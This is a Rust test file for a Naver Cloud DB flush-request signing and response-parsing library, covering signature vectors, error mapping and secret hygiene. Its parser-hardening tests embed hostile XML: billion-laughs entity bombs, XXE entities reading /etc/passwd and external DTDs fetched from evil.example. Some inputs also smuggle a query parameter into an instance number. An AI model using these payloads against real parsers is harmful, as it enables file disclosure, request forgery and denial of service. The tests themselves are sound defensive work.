//! The core, natively: signature vectors, RFC 4231, every fixture field by field, error mapping,
//! bad inputs and secret hygiene.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use ncloud_redis_flush::signing::{request_target, string_to_sign, SigningKey};
use ncloud_redis_flush::*;
use serde_json::{json, Value};
use std::fs;

fn fixture(name: &str) -> String {
    fs::read_to_string(format!(
        "{}/tests/fixtures/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

fn vectors(name: &str) -> Value {
    let text = fs::read_to_string(format!(
        "{}/tests/vectors/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap();
    serde_json::from_str(&text).unwrap()
}

fn hex(text: &str) -> Vec<u8> {
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&text[i..i + 2], 16).unwrap())
        .collect()
}

fn to_hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn ts(ms: u64) -> Timestamp {
    Timestamp::from_millis(ms).unwrap()
}

// ---------------------------------------------------------------------------------------------
// Signatures

#[test]
fn every_signature_vector_stage_by_stage() {
    let all = vectors("signature-vectors.json");
    let list = all["vectors"].as_array().unwrap();
    assert_eq!(list.len(), 8);
    for v in list {
        let s = |k: &str| v[k].as_str().unwrap();
        let timestamp = Timestamp::parse(s("timestamp")).unwrap();
        // Stage 1: request target.
        assert_eq!(
            request_target::request_target(s("url")).unwrap(),
            s("signedPathAndQuery"),
            "{v}"
        );
        // Stage 2: string to sign.
        let method = s("method").to_ascii_uppercase();
        assert_eq!(
            string_to_sign(
                &method,
                s("signedPathAndQuery"),
                timestamp.millis(),
                s("accessKey")
            ),
            s("stringToSign")
        );
        // Stage 3: signature.
        assert_eq!(
            SigningKey::new(s("secretKey")).sign(s("stringToSign")),
            s("signature")
        );
        // All together, with the headers.
        let signed = sign_request(&SignRequest {
            method: s("method"),
            url: s("url"),
            timestamp,
            access_key: s("accessKey"),
            secret_key: s("secretKey"),
            api_key: None,
            signature_version: SignatureVersion::V2,
        })
        .unwrap();
        assert_eq!(signed.method, method);
        assert_eq!(signed.request_target, s("signedPathAndQuery"));
        assert_eq!(signed.string_to_sign, s("stringToSign"));
        assert_eq!(signed.signature, s("signature"));
        assert_eq!(
            signed.headers.0,
            vec![
                ("x-ncp-apigw-timestamp", s("timestamp").to_owned()),
                ("x-ncp-iam-access-key", s("accessKey").to_owned()),
                ("x-ncp-apigw-signature-v2", s("signature").to_owned()),
            ]
        );
        assert!(SigningKey::new(s("secretKey")).verify(s("stringToSign"), s("signature")));
    }
}

#[test]
fn rfc4231_hmac_sha256() {
    let all = vectors("rfc4231-hmac-sha256.json");
    let cases = all["cases"].as_array().unwrap();
    assert_eq!(cases.len(), 7);
    for c in cases {
        let mac = SigningKey::from_bytes(&hex(c["key"].as_str().unwrap()))
            .mac(&hex(c["data"].as_str().unwrap()));
        let expected = c["hmac"].as_str().unwrap();
        let got = to_hex(&mac);
        match c["truncatedToBytes"].as_u64() {
            Some(n) => assert_eq!(&got[..n as usize * 2], expected, "case {}", c["case"]),
            None => assert_eq!(got, expected, "case {}", c["case"]),
        }
    }
}

#[test]
fn v1_header_and_api_key() {
    let signer = Signer::new("AK", "SK").unwrap();
    let v1 = signer
        .sign("post", "/x", ts(1), Some("gw-key"), SignatureVersion::V1)
        .unwrap();
    let v2 = signer
        .sign("post", "/x", ts(1), None, SignatureVersion::V2)
        .unwrap();
    assert_eq!(v1.signature, v2.signature, "v1 and v2 sign the same string");
    assert_eq!(
        v1.header("x-ncp-apigw-signature-v1"),
        Some(v1.signature.as_str())
    );
    assert_eq!(v1.header("x-ncp-apigw-signature-v2"), None);
    assert_eq!(v1.header("x-ncp-apigw-api-key"), Some("gw-key"));
    assert!(
        !v1.string_to_sign.contains("gw-key"),
        "the API key is not signed"
    );
}

#[test]
fn flush_request_matches_an_independent_signature() {
    let mut request = FlushRequest::new(
        ts(1546221796556),
        "Y0Z9EG0lKoeWAQCSHRtM",
        "TESTSECRETKEY0123456789abcdefghijklmnopq",
    );
    request.cloud_db_instance_no = "882689";
    request.call.method = ApiMethod::Get;
    let built = build_flush_request(&request).unwrap();
    // The second vector of signature-vectors.json is exactly this request.
    assert_eq!(
        built.headers.get("x-ncp-apigw-signature-v2"),
        Some("/3FZSr2hZ6RvF8XDHCUaY+nD8HpuX0A9pCfZcYMBp7s=")
    );
    assert_eq!(
        built.url,
        "https://ncloud.apigw.ntruss.com/clouddb/v2/flushCloudDBInstance?cloudDBInstanceNo=882689&responseFormatType=json"
    );
    // Endpoints.
    for (endpoint, base) in [
        (Endpoint::Public, "https://ncloud.apigw.ntruss.com"),
        (Endpoint::Gov, "https://ncloud.apigw.gov-ntruss.com"),
        (Endpoint::Fin, "https://fin-ncloud.apigw.fin-ntruss.com"),
    ] {
        request.call.endpoint = endpoint;
        assert!(build_flush_request(&request).unwrap().url.starts_with(base));
    }
}

// ---------------------------------------------------------------------------------------------
// Answers

fn parse_value(body: &str, format: Option<Format>) -> Value {
    let r = parse_flush_response(
        body,
        &ParseOptions {
            format,
            status: Some(200),
        },
    )
    .unwrap();
    serde_json::to_value(&r).unwrap()
}

#[test]
fn seed_json_answer_every_field() {
    let body = fixture("flush-response.json");
    let got = parse_value(&body, None);
    // The fixture is well typed but for `returnCode`, documented an integer and sent as "0": the
    // result is its inner object, field for field, with that one string made a number.
    let raw: Value = serde_json::from_str(&body).unwrap();
    let mut expected = raw["flushCloudDBInstanceResponse"].clone();
    assert_eq!(expected["returnCode"], json!("0"));
    expected["returnCode"] = json!(0);
    assert_eq!(got, expected);

    let r = parse_flush_response(&body, &ParseOptions::default()).unwrap();
    assert_eq!(r.request_id, None);
    assert_eq!(
        (r.return_code, r.return_message.as_str(), r.total_rows),
        (0, "success", 1)
    );
    let i = &r.cloud_db_instance_list[0];
    assert_eq!(i.cloud_db_instance_no.as_deref(), Some("882689"));
    assert_eq!(i.memory_size, Some(3_221_225_472));
    assert_eq!(i.is_ha, Some(true));
    assert_eq!(i.collation.as_deref(), Some(""));
    assert_eq!(
        i.zone.as_ref().unwrap().zone_description.as_deref(),
        Some("Gasan zone")
    );
    assert_eq!(
        i.region.as_ref().unwrap().region_code.as_deref(),
        Some("KR")
    );
    assert_eq!(i.access_control_group_list[0].is_default, Some(false));
    let servers = &i.cloud_db_server_instance_list;
    assert_eq!(servers.len(), 2);
    assert_eq!(
        servers[0]
            .cloud_db_server_role
            .as_ref()
            .unwrap()
            .code_name
            .as_deref(),
        Some("Master")
    );
    // The truncated second server: what it has, and nothing else.
    assert_eq!(
        servers[1].cloud_db_server_name.as_deref(),
        Some("test123-002")
    );
    assert_eq!(servers[1].cloud_db_server_instance_no, None);
    assert_eq!(servers[1].data_storage_size, None);
}

#[test]
fn xml_answer_equals_the_json_one() {
    let got = parse_value(&fixture("flush-response.xml"), None);
    let raw: Value = serde_json::from_str(&fixture("flush-response.json")).unwrap();
    let mut expected = raw["flushCloudDBInstanceResponse"].clone();
    expected["requestId"] = json!("3c1d7d0a-5b8e-4b4e-9f55-2f0d6c3c1a11");
    expected["returnCode"] = json!(0);
    assert_eq!(got, expected);
    // Also with the format given.
    assert_eq!(
        parse_value(&fixture("flush-response.xml"), Some(Format::Xml)),
        expected
    );
}

#[test]
fn loose_and_edge_answers() {
    for (body, expected) in [
        (
            "flush-response-loose.json",
            "flush-response-loose.expected.json",
        ),
        (
            "flush-response-edge.xml",
            "flush-response-edge.expected.json",
        ),
    ] {
        let expected: Value = serde_json::from_str(&fixture(expected)).unwrap();
        assert_eq!(parse_value(&fixture(body), None), expected, "{body}");
    }
}

#[test]
fn xml_written_by_the_crate_reads_back() {
    let r =
        parse_flush_response(&fixture("flush-response.json"), &ParseOptions::default()).unwrap();
    let back = parse_flush_response(&r.to_xml(), &ParseOptions::default()).unwrap();
    assert_eq!(back, r);
}

fn error_of(body: &str, status: Option<u16>) -> Error {
    parse_flush_response(
        body,
        &ParseOptions {
            format: None,
            status,
        },
    )
    .unwrap_err()
}

#[test]
fn error_fixtures_map_to_kind_and_code() {
    let cases = [
        (
            "error-common.json",
            Some(500),
            ErrorKind::Api,
            "1000",
            "Cloud DB API error 1000: Please try your call again later.",
        ),
        (
            "error-common.xml",
            Some(400),
            ErrorKind::Api,
            "800",
            "Cloud DB API error 800: Expired url.",
        ),
        (
            "error-gateway-auth.json",
            Some(401),
            ErrorKind::Gateway,
            "200",
            "API Gateway error 200: Authentication Failed (Invalid authentication information.)",
        ),
        (
            "error-gateway-permission.json",
            Some(401),
            ErrorKind::Gateway,
            "210",
            "API Gateway error 210: Permission Denied (You have no permission for this API.)",
        ),
        (
            "error-gateway-notfound.json",
            Some(404),
            ErrorKind::Gateway,
            "300",
            "API Gateway error 300: Not Found Exception",
        ),
        (
            "error-returncode.json",
            Some(200),
            ErrorKind::Api,
            "1200",
            "Cloud DB API error 1200: The instance is not in a state that can be flushed.",
        ),
        (
            "error-http-502.html",
            Some(502),
            ErrorKind::Http,
            "ERR_HTTP_STATUS",
            "HTTP 502 without an error body of the API",
        ),
    ];
    for (file, status, kind, code, message) in cases {
        let err = error_of(&fixture(file), status);
        assert_eq!(
            (err.kind(), err.code(), err.to_string().as_str()),
            (kind, code, message),
            "{file}"
        );
        assert_eq!(err.http_status(), status, "{file}");
        // Without a status, the same bodies give the same kinds (except HTML, which is not JSON).
        if kind != ErrorKind::Http {
            assert_eq!(error_of(&fixture(file), None).code(), code);
        }
    }
    let err = error_of(&fixture("error-gateway-auth.json"), Some(401));
    assert_eq!(err.details(), Some("Invalid authentication information."));
    assert_eq!(
        error_of(&fixture("error-returncode.json"), None).request_id(),
        Some("r-77")
    );
    let html = error_of(&fixture("error-http-502.html"), Some(502));
    assert!(html
        .details()
        .unwrap()
        .starts_with("<html> <head><title>502 Bad Gateway"));
    assert_eq!(
        error_of(&fixture("error-http-502.html"), None).code(),
        "ERR_INVALID_XML"
    );
}

#[test]
fn bad_bodies_are_parse_errors() {
    let deep_json = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_xml = "<a>".repeat(100_000);
    let billion_laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<flushCloudDBInstanceResponse><returnMessage>&lol9;</returnMessage></flushCloudDBInstanceResponse>"#;
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><responseError><returnCode>&x;</returnCode></responseError>"#;
    let ten_mb = format!(
        "{{\"flushCloudDBInstanceResponse\":{{\"returnCode\":\"0\",\"returnMessage\":\"{}\"}}}}",
        "x".repeat(10 << 20)
    );
    let cases: Vec<(&str, String)> = vec![
        ("ERR_EMPTY_BODY", "".into()),
        ("ERR_EMPTY_BODY", " \n\t".into()),
        ("ERR_UNKNOWN_FORMAT", "hello".into()),
        ("ERR_INVALID_JSON", "{\"flushCloudDBInstanceResponse\":".into()),
        ("ERR_INVALID_JSON", "{'a':1}".into()),
        ("ERR_INVALID_XML", "<flushCloudDBInstanceResponse>".into()),
        ("ERR_TOO_DEEP", deep_json),
        ("ERR_TOO_DEEP", deep_xml),
        ("ERR_XML_DTD", billion_laughs.into()),
        ("ERR_XML_DTD", xxe.into()),
        ("ERR_UNKNOWN_ROOT", "{\"somethingElse\":{}}".into()),
        ("ERR_UNKNOWN_ROOT", "{}".into()),
        ("ERR_UNKNOWN_ROOT", "[1,2]".into()),
        ("ERR_UNKNOWN_ROOT", "<html><body>hi</body></html>".into()),
        ("ERR_MISSING_FIELD", "{\"flushCloudDBInstanceResponse\":{\"returnMessage\":\"success\"}}".into()),
        ("ERR_INVALID_FIELD", "{\"flushCloudDBInstanceResponse\":\"x\"}".into()),
        (
            "ERR_INVALID_FIELD",
            "{\"flushCloudDBInstanceResponse\":{\"returnCode\":\"0\",\"cloudDBInstanceList\":[{\"memorySize\":\"lots\"}]}}".into(),
        ),
        (
            "ERR_INVALID_FIELD",
            "{\"flushCloudDBInstanceResponse\":{\"returnCode\":\"0\",\"cloudDBInstanceList\":[{\"memorySize\":9007199254740992}]}}".into(),
        ),
        (
            "ERR_INVALID_FIELD",
            "{\"flushCloudDBInstanceResponse\":{\"returnCode\":\"0\",\"cloudDBInstanceList\":[{\"isHa\":\"yes\"}]}}".into(),
        ),
        (
            "ERR_INVALID_FIELD",
            "{\"flushCloudDBInstanceResponse\":{\"returnCode\":\"0\",\"cloudDBInstanceList\":{\"a\":1}}}".into(),
        ),
    ];
    for (code, body) in &cases {
        let err = error_of(body, None);
        assert_eq!(err.code(), *code, "{}: {err}", &body[..body.len().min(80)]);
        assert_eq!(err.kind(), ErrorKind::Parse);
    }
    // A 10 MB body is read (linearly), not refused.
    let big = parse_flush_response(&ten_mb, &ParseOptions::default()).unwrap();
    assert_eq!(big.return_message.len(), 10 << 20);
    // Field errors name the path.
    let err = error_of(&cases[16].1, None);
    assert_eq!(
        err.to_string(),
        "field `cloudDBInstanceList[0].memorySize` must be an integer, got \"lots\""
    );
    // Above the limit: refused before reading.
    let huge = " ".repeat(parse::MAX_BODY_BYTES + 1);
    assert_eq!(error_of(&huge, None).code(), "ERR_BODY_TOO_LARGE");
}

#[test]
fn xml_dtds_are_refused_wherever_they_hide() {
    // Every document type declaration is refused as soon as it is met, before anything in it is
    // read: no entity is ever declared, so none is ever expanded (no billion laughs, no XXE).
    let entity = "<!ENTITY x \"EXPANDED\">";
    let dtd_bodies = [
        format!("<!-- a comment first --><!DOCTYPE r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
        format!("<?pi first?><!DOCTYPE r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
        format!("<?xml version=\"1.0\"?>\n<!-- a -->\n<?pi?>\n<!DOCTYPE r [{entity}]>\n<flushCloudDBInstanceResponse><returnCode>0</returnCode><returnMessage>&x;</returnMessage></flushCloudDBInstanceResponse>"),
        format!("\u{feff}<!DOCTYPE r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
        // Lowercase keyword.
        format!("<!doctype r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
        // A parameter entity that declares the general one.
        "<!DOCTYPE r [<!ENTITY % p \"<!ENTITY x 'EXPANDED'>\"> %p;]><responseError><returnCode>&x;</returnCode></responseError>".to_owned(),
        // External entities and external subsets (XXE, SSRF).
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><responseError><returnCode>&x;</returnCode></responseError>".to_owned(),
        "<!DOCTYPE r [<!ENTITY % e SYSTEM \"http://evil.example/x.dtd\"> %e;]><responseError/>".to_owned(),
        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><responseError><returnCode>&x;</returnCode></responseError>".to_owned(),
        "<!DOCTYPE r PUBLIC \"-//E//DTD X//EN\" \"http://evil.example/x.dtd\"><responseError/>".to_owned(),
        // Only element and attribute declarations (default attribute values).
        "<!DOCTYPE flushCloudDBInstanceResponse [<!ELEMENT flushCloudDBInstanceResponse ANY><!ATTLIST flushCloudDBInstanceResponse a CDATA \"x\">]><flushCloudDBInstanceResponse><returnCode>0</returnCode></flushCloudDBInstanceResponse>".to_owned(),
        // After the root element, or inside it.
        format!("<flushCloudDBInstanceResponse><returnCode>0</returnCode></flushCloudDBInstanceResponse><!DOCTYPE r [{entity}]>"),
        format!("<flushCloudDBInstanceResponse><returnCode>0</returnCode><!DOCTYPE r [{entity}]></flushCloudDBInstanceResponse>"),
        // A quadratic blow-up: one large entity referenced many times.
        format!(
            "<!DOCTYPE r [<!ENTITY big \"{}\">]><flushCloudDBInstanceResponse><returnCode>0</returnCode><returnMessage>{}</returnMessage></flushCloudDBInstanceResponse>",
            "x".repeat(100_000),
            "&big;".repeat(10_000)
        ),
    ];
    for body in &dtd_bodies {
        let ctx = &body[..body.len().min(100)];
        let err = parse_flush_response(
            body,
            &ParseOptions {
                format: Some(Format::Xml),
                status: None,
            },
        )
        .unwrap_err();
        assert_eq!(
            (err.kind(), err.code()),
            (ErrorKind::Parse, "ERR_XML_DTD"),
            "{ctx}"
        );
        // Detected as XML too.
        assert_eq!(error_of(body, None).code(), "ERR_XML_DTD", "{ctx}");
        // With a failing status the body is only quoted (its start, white space folded), never
        // expanded.
        let err = error_of(body, Some(400));
        assert_eq!(err.kind(), ErrorKind::Http, "{ctx}");
        let details = err.details().unwrap();
        let folded = body.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(folded.starts_with(details), "{ctx}");
        assert!(details.chars().count() <= 200, "{ctx}");
    }
    // Entity declarations outside a DTD are not XML; undeclared entities are errors; a DTD
    // inside CDATA is only text.
    for body in [
        "<responseError><!ENTITY x \"y\"><returnCode>1</returnCode></responseError>",
        "<!ENTITY x \"y\"><responseError><returnCode>&x;</returnCode></responseError>",
        "<responseError><returnCode>&x;</returnCode></responseError>",
        "<responseError><returnCode>&#0;</returnCode></responseError>",
    ] {
        assert_eq!(error_of(body, None).code(), "ERR_INVALID_XML", "{body}");
    }
    let cdata = "<responseError><returnCode>1</returnCode><returnMessage><![CDATA[<!DOCTYPE r [<!ENTITY x \"y\">]>&x;]]></returnMessage></responseError>";
    let err = error_of(cdata, None);
    assert_eq!((err.kind(), err.code()), (ErrorKind::Api, "1"));
    assert_eq!(
        err.to_string(),
        "Cloud DB API error 1: <!DOCTYPE r [<!ENTITY x \"y\">]>&x;"
    );
}

#[test]
fn statuses_over_400_without_an_error_body_are_http_errors() {
    for body in [
        "",
        "Service Unavailable",
        "{\"unexpected\":true}",
        "<html/>",
        "{not json",
    ] {
        let err = error_of(body, Some(503));
        assert_eq!(
            (err.kind(), err.code(), err.http_status()),
            (ErrorKind::Http, "ERR_HTTP_STATUS", Some(503)),
            "{body}"
        );
    }
    // A success body with a failing status is not a success.
    let err = error_of(&fixture("flush-response.json"), Some(500));
    assert_eq!(err.kind(), ErrorKind::Http);
}

// ---------------------------------------------------------------------------------------------
// Bad inputs and secrets

const SECRET: &str = "S3CR3T-zebra-quokka-9f8e7d";

fn sign_with(
    method: &str,
    url: &str,
    access_key: &str,
    secret_key: &str,
    api_key: Option<&str>,
) -> Result<SignedRequest> {
    sign_request(&SignRequest {
        method,
        url,
        timestamp: ts(1_700_000_000_000),
        access_key,
        secret_key,
        api_key,
        signature_version: SignatureVersion::V2,
    })
}

#[test]
fn bad_inputs_name_their_field() {
    let cases: Vec<(Result<SignedRequest>, &str, &str)> = vec![
        (
            sign_with("", "/x", "AK", SECRET, None),
            "method",
            "ERR_MISSING_ARG",
        ),
        (
            sign_with("GE T", "/x", "AK", SECRET, None),
            "method",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("GET\n", "/x", "AK", SECRET, None),
            "method",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("CONNECT", "/x", "AK", SECRET, None),
            "method",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("GET", "", "AK", SECRET, None),
            "url",
            "ERR_MISSING_ARG",
        ),
        (
            sign_with("GET", "not a url", "AK", SECRET, None),
            "url",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("GET", "http://", "AK", SECRET, None),
            "url",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("GET", "/x", "", SECRET, None),
            "accessKey",
            "ERR_MISSING_ARG",
        ),
        (
            sign_with("GET", "/x", "A K", SECRET, None),
            "accessKey",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("GET", "/x", "AK\n", SECRET, None),
            "accessKey",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("GET", "/x", "AK", "", None),
            "secretKey",
            "ERR_MISSING_ARG",
        ),
        (
            // The JavaScript API's verdict (the two disagreed): an optional key given empty.
            sign_with("GET", "/x", "AK", SECRET, Some("")),
            "apiKey",
            "ERR_INVALID_ARG_VALUE",
        ),
        (
            sign_with("GET", "/x", "AK", SECRET, Some("a\r\nb")),
            "apiKey",
            "ERR_INVALID_ARG_VALUE",
        ),
    ];
    for (result, field, code) in cases {
        let err = result.unwrap_err();
        assert_eq!(
            (err.kind(), err.field(), err.code()),
            (ErrorKind::Input, Some(field), code),
            "{err}"
        );
        assert!(err.to_string().contains(&format!("`{field}`")), "{err}");
    }
    // Timestamps.
    for bad in [f64::NAN, -1.0, 0.5, f64::INFINITY, 9007199254740992.0] {
        assert_eq!(
            Timestamp::from_f64(bad).unwrap_err().field(),
            Some("timestamp"),
            "{bad}"
        );
    }
    for bad in [
        "",
        "-1",
        "1.5",
        "1e3",
        " 1",
        "9007199254740992",
        "99999999999999999999999",
    ] {
        assert_eq!(
            Timestamp::parse(bad).unwrap_err().field(),
            Some("timestamp"),
            "{bad:?}"
        );
    }
    assert_eq!(
        Timestamp::parse("9007199254740991").unwrap().millis(),
        (1 << 53) - 1
    );
    // Instance numbers.
    let mut request = FlushRequest::new(ts(1), "AK", SECRET);
    for bad in [
        "",
        "abc",
        "882689 ",
        "88-2689",
        "882689&cloudDBInstanceNo=1",
        "0882689",
        "８８２６８９",
    ] {
        request.cloud_db_instance_no = bad;
        let err = build_flush_request(&request).unwrap_err();
        assert_eq!(err.field(), Some("cloudDBInstanceNo"), "{bad:?}");
    }
}

#[test]
fn the_secret_appears_in_no_error_or_debug_text() {
    let mut texts = Vec::new();
    let bad_calls = [
        sign_with("", "/x", "AK", SECRET, None),
        sign_with("GET", "::", "AK", SECRET, None),
        sign_with("GET", "/x", "A K", SECRET, None),
        sign_with("GET", "/x", "AK", SECRET, Some("\u{1}")),
        sign_with("GET", SECRET, "AK", SECRET, None),
    ];
    for result in bad_calls {
        let err = result.unwrap_err();
        texts.push(err.to_string());
        texts.push(format!("{err:?}"));
    }
    let mut request = FlushRequest::new(ts(1), "AK", SECRET);
    request.cloud_db_instance_no = "x";
    texts.push(format!("{request:?}"));
    texts.push(build_flush_request(&request).unwrap_err().to_string());
    request.cloud_db_instance_no = "1";
    texts.push(format!("{:?}", build_flush_request(&request).unwrap()));
    // Every way a flush request can be refused, in Display and Debug form.
    let mut refused = Vec::new();
    for no in ["0123", "12a", ""] {
        let mut r = FlushRequest::new(ts(1), "AK", SECRET);
        r.cloud_db_instance_no = no;
        refused.push(r);
    }
    let mut r = FlushRequest::new(ts(1), "A K", SECRET);
    r.cloud_db_instance_no = "1";
    refused.push(r.clone());
    r.call.access_key = "AK";
    r.call.api_key = Some("a b");
    refused.push(r.clone());
    r.call.api_key = None;
    r.call.method = ApiMethod::Get;
    r.call.params_in = ParamsIn::Body;
    refused.push(r);
    for r in &refused {
        let err = build_flush_request(r).unwrap_err();
        texts.push(format!("{r:?}"));
        texts.push(format!("{:?}", r.call));
        texts.push(err.to_string());
        texts.push(format!("{err:?}"));
    }
    for bad in [
        "moon",
        "https://h/?q",
        "ftp://h",
        "https://user:pw@h",
        "https://h/a|b",
    ] {
        let err = Endpoint::parse(bad).unwrap_err();
        texts.push(err.to_string());
        texts.push(format!("{err:?}"));
    }
    for err in [
        Timestamp::parse("x").unwrap_err(),
        Timestamp::from_f64(f64::NAN).unwrap_err(),
        Signer::new("AK", "").unwrap_err(),
        Signer::new("", SECRET).unwrap_err(),
    ] {
        texts.push(err.to_string());
        texts.push(format!("{err:?}"));
    }
    let ok = SignRequest {
        method: "GET",
        url: "/x",
        timestamp: ts(1),
        access_key: "AK",
        secret_key: SECRET,
        api_key: Some("gw"),
        signature_version: SignatureVersion::V1,
    };
    texts.push(format!("{ok:?}"));
    texts.push(format!("{:?}", sign_request(&ok).unwrap()));
    let signer = Signer::new("AK", SECRET).unwrap();
    texts.push(format!("{signer:?}"));
    texts.push(format!("{:?}", SigningKey::new(SECRET)));
    texts.push(format!(
        "{:?}",
        signer
            .sign("GET", "/x", ts(1), None, SignatureVersion::V2)
            .unwrap()
    ));
    for text in &texts {
        assert!(!text.contains(SECRET), "secret leaked in: {text}");
        assert!(
            !text.contains("zebra"),
            "part of the secret leaked in: {text}"
        );
    }
}

/// Collects the pieces a long answer's text is handed out in.
#[derive(Default)]
struct Collect {
    pieces: Vec<String>,
    discarded: usize,
}

impl parse::TextSink for Collect {
    fn piece(&mut self, text: &str) {
        self.pieces.push(text.to_owned());
    }
    fn discard(&mut self) {
        self.discarded += self.pieces.len();
        self.pieces.clear();
    }
}

#[test]
fn a_long_answer_is_handed_out_in_pieces_that_join_to_its_text() {
    use ncloud_redis_flush::parse::{parse_answer_json, parse_answer_json_in_pieces};
    let options = ParseOptions::default();
    let instance = |i: usize| json!({ "cloudDBInstanceNo": i.to_string(), "cloudDBServiceName": "x".repeat(i % 50) });
    // The expected text, built here: each instance with its four lists, empty.
    let expected = |items: &[usize]| {
        let list: Vec<Value> = items
            .iter()
            .map(|&i| {
                let mut v = instance(i);
                for l in [
                    "cloudDBConfigList",
                    "cloudDBConfigGroupList",
                    "accessControlGroupList",
                    "cloudDBServerInstanceList",
                ] {
                    v[l] = json!([]);
                }
                v
            })
            .collect();
        json!({ "returnCode": 0, "returnMessage": "success", "totalRows": items.len(), "cloudDBInstanceList": list })
    };
    let body = |lists: &[&[usize]]| {
        let lists: Vec<String> = lists
            .iter()
            .map(|items| {
                let items: Vec<Value> = items.iter().map(|&i| instance(i)).collect();
                format!("\"cloudDBInstanceList\":{}", Value::Array(items))
            })
            .collect();
        format!(
            "{{\"flushCloudDBInstanceResponse\":{{\"returnCode\":\"0\",\"returnMessage\":\"success\",{}}}}}",
            lists.join(",")
        )
    };
    let long: Vec<usize> = (0..40_000).collect();
    let short: Vec<usize> = vec![7, 8];
    // The long list alone; the long then the short (the last counts: the pieces are discarded);
    // the short then the long.
    for (lists, items, discards) in [
        (vec![&long[..]], &long, false),
        (vec![&long[..], &short[..]], &short, true),
        (vec![&short[..], &long[..]], &long, false),
    ] {
        let body = body(&lists);
        let mut sink = Collect::default();
        let head =
            parse_answer_json_in_pieces(&body, &options, model::CLASSIC_FLUSH, &mut sink).unwrap();
        let text = head + &sink.pieces.concat();
        assert_eq!(
            serde_json::from_str::<Value>(&text).unwrap(),
            expected(items)
        );
        assert_eq!(
            text,
            parse_answer_json(&body, &options, model::CLASSIC_FLUSH).unwrap()
        );
        assert_eq!(sink.discarded > 0, discards);
        if !discards {
            assert!(
                sink.pieces.len() >= 2,
                "{} pieces for {} bytes",
                sink.pieces.len(),
                text.len()
            );
            assert!(sink.pieces.iter().all(|p| p.len() < (2 << 20)));
        }
    }
    // A list that turns out wrong after its pieces were handed out: an error, pieces discarded.
    let long_body = body(&[&long[..]]);
    let wrong = format!(
        "{},{{\"memorySize\":\"lots\"}}]}}}}",
        &long_body[..long_body.len() - 3]
    );
    let mut sink = Collect::default();
    let err =
        parse_answer_json_in_pieces(&wrong, &options, model::CLASSIC_FLUSH, &mut sink).unwrap_err();
    assert_eq!(err.code(), "ERR_INVALID_FIELD");
    assert!(
        sink.pieces.is_empty() && sink.discarded >= 2,
        "{} / {}",
        sink.pieces.len(),
        sink.discarded
    );
}

#[test]
fn an_answer_whose_text_would_pass_the_limit_is_refused() {
    // `{}` where instances belong: 3 bytes of body, over a hundred of text. Under the body limit,
    // over the text's: refused as it is written, with its own error, with or without pieces.
    let options = ParseOptions::default();
    let body = |items: usize| {
        format!(
            "{{\"flushCloudDBInstanceResponse\":{{\"returnCode\":\"0\",\"cloudDBInstanceList\":[{}{{}}]}}}}",
            "{},".repeat(items - 1)
        )
    };
    let text = |items| parse::parse_answer_json(&body(items), &options, model::CLASSIC_FLUSH);
    let per_item = text(2).unwrap().len() - text(1).unwrap().len();
    assert!(per_item > 100);
    let over = parse::MAX_NORMALIZED_BYTES / per_item + 1;
    assert!(body(over).len() < parse::MAX_BODY_BYTES);
    let err = text(over).unwrap_err();
    assert_eq!(
        (err.kind(), err.code()),
        (ErrorKind::Parse, "ERR_ANSWER_TOO_LARGE")
    );
    assert_eq!(
        err.to_string(),
        format!(
            "the answer's normalized text is longer than {} bytes, the most this parser writes",
            parse::MAX_NORMALIZED_BYTES
        )
    );
    let mut sink = Collect::default();
    let err =
        parse::parse_answer_json_in_pieces(&body(over), &options, model::CLASSIC_FLUSH, &mut sink)
            .unwrap_err();
    assert_eq!(err.code(), "ERR_ANSWER_TOO_LARGE");
    // A few instances fewer are read.
    let fits = parse::MAX_NORMALIZED_BYTES / per_item - 2;
    let mut sink = Collect::default();
    let head =
        parse::parse_answer_json_in_pieces(&body(fits), &options, model::CLASSIC_FLUSH, &mut sink)
            .unwrap();
    let len = head.len() + sink.pieces.iter().map(String::len).sum::<usize>();
    assert!(len <= parse::MAX_NORMALIZED_BYTES, "{len}");
}
